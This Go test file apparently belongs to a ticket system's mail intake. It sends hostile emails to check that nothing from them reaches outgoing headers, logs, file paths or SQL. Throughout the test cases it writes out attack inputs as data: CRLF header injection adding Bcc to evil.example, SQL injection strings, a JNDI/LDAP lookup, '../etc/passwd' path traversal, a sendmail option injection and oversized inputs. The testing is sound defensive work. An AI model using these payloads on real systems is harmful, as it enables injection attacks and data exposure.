package mailin_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"aduan/tickets/ticketstest"
)

// encoded is an encoded-word (RFC 2047) whatever it holds.
func encoded(text string) string {
	return "=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte(text)) + "?="
}

// fresh is a stranger's report: it opens a ticket of its own and its sender hears that it did.
func fresh(about string, text string, fields ...string) hostile {
	return hostile{about: about, hears: []string{jahat + ":acknowledged"}, mails: func(s *scene) mails {
		if !strings.HasPrefix(strings.Join(fields, "\n"), "Subject:") {
			return s.mail(jahat, ticketstest.Address, text, append([]string{"Subject: laporan"}, fields...)...)
		}
		return s.mail(jahat, ticketstest.Address, text, fields...)
	}}
}

func TestNothingOfAMailBecomesOurHeaderLogPathOrSQL(t *testing.T) {
	const bcc = "x\r\nBcc: lain@evil.example\r\nX-Evil: ya\r\n\r\n" + words
	const mixed = "Content-Type: multipart/mixed; boundary=b"
	attached := func(disposition string) string {
		return "--b\r\n" + plain + words + "\r\n--b\r\nContent-Type: application/octet-stream\r\n" + disposition + "\r\n\r\nMZ\r\n--b--\r\n"
	}
	deep := ""
	for i := range 300 {
		deep += fmt.Sprintf("--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n", i, i+1)
	}
	playAll(t, []hostile{
		fresh("line breaks in an encoded subject", words, "Subject: "+encoded(bcc)),
		fresh("NUL and line separators in an encoded subject", words, "Subject: "+encoded("a\x00b\u2028Bcc: lain@evil.example\u2029\u0085\vX-Evil: ya")),
		fresh("direction marks in the subject", words, "Subject: "+encoded("\u202egnp.exe \u2066x\u2069")),
		fresh("line breaks in an encoded name", words, "From: "+encoded("Budi\r\nX-Evil: ya\r\nBcc: lain@evil.example")+" <"+jahat+">"),
		fresh("NUL in a name", words, "From: "+encoded("Bu\x00di\u2028X-Evil: ya")+" <"+jahat+">"),
		fresh("a name that is a template", words, "From: "+encoded(`{{.Ticket}}<script>x</script>`)+" <"+jahat+">"),
		fresh("line breaks in an encoded Cc", words, "Cc: "+encoded("x\r\nBcc: lain@evil.example")+" <lain@evil.example>"),
		fresh("a subject that is SQL", words, "Subject: '); DROP TABLE ticket; --"),
		fresh("a subject that is a format", words, "Subject: %s%n%d ${jndi:ldap://evil.example} $1 ?"),
		fresh("a text that is SQL", "'; DELETE FROM event; --\r\n"+words),
		fresh("a file that leaves its folder", attached("Content-Disposition: attachment; filename=\"../../../etc/passwd\""), mixed),
		fresh("a file of a drive", attached("Content-Disposition: attachment; filename=\"C:\\\\Windows\\\\system32\\\\CON.exe\""), mixed),
		fresh("line breaks in a file's name", attached("Content-Disposition: attachment; filename*=utf-8''a%0d%0aX-Evil%3A%20ya%00.txt"), mixed),
		fresh("a file's name that reads backwards", attached("Content-Disposition: attachment; filename*=utf-8''laporan%E2%80%AEfdp.exe"), mixed),
		fresh("a file's name of 100000 letters", attached("Content-Disposition: attachment;\r\n filename=\""+strings.Repeat("a", 100_000)+".txt\""), mixed),
		fresh("a Message-ID with a blank and a command", words, "Message-ID: <a b\r\n\tX-Evil: ya@evil.example>"),
		fresh("a Message-ID of 100000 letters", words, "Message-ID: <"+strings.Repeat("m", 100_000)+"@evil.example>"),
		fresh("references to ten thousand mails", words, "References: "+strings.Repeat("<x@evil.example>\r\n ", 10_000)+"<y@evil.example>"),
		fresh("a header of a megabyte", words, "X-Long: "+strings.Repeat("x", 1<<20)),
		fresh("parts three hundred deep", deep, "Content-Type: multipart/mixed; boundary=b0"),
		fresh("a text that is no UTF-8", "\xff\xfe\xc0\x80 "+words, "Content-Type: text/plain; charset=utf-8"),
		fresh("a charset that is none", words, "Content-Type: text/plain; charset=\"../../etc/passwd\""),
		{about: "a sender that is SQL", mails: func(s *scene) mails {
			return s.mail(`"'; DELETE FROM event; --"@evil.example`, ticketstest.Address, words)
		}},
		{about: "a sender of 100000 letters", mails: func(s *scene) mails {
			return s.mail(strings.Repeat("a", 100_000)+"@evil.example", ticketstest.Address, words, "Subject: laporan")
		}},
		{about: "a sender with a line break", mails: func(s *scene) mails {
			return s.mail("\"jahat\r\n Bcc: lain\"@evil.example", ticketstest.Address, words)
		}},
		{about: "a sender that is an option of sendmail", mails: func(s *scene) mails {
			return s.mail("-OQueueDirectory=/tmp@evil.example", ticketstest.Address, words)
		}},
		{about: "ten thousand senders", mails: func(s *scene) mails {
			return s.mail(strings.Repeat("a@evil.example, ", 10_000)+budi, s.reply(budi), attack)
		}},
		{about: "the reporter's words with line breaks in the name", proven: []string{ani}, mails: func(s *scene) mails {
			return s.mail("", s.reply(ani), words, "From: "+encoded("Ani\r\nX-Evil: ya")+" <"+ani+">", "Subject: "+encoded(bcc))
		}},
		{about: "commands with line breaks, without proof", mails: func(s *scene) mails {
			return s.mail(budi, ticketstest.Address, "/set subject=\"x\u2028Bcc: lain@evil.example\x0bX-Evil: ya\"\r\n/reject \x00"+words)
		}},
		{about: "nothing but a header", mails: func(s *scene) mails { return mails{"From: budi@csirt.example"} }},
		{about: "bytes that are no mail", hears: nil, mails: func(s *scene) mails { return mails{"\x00\x01\x02\xff" + words} }},
	})
}
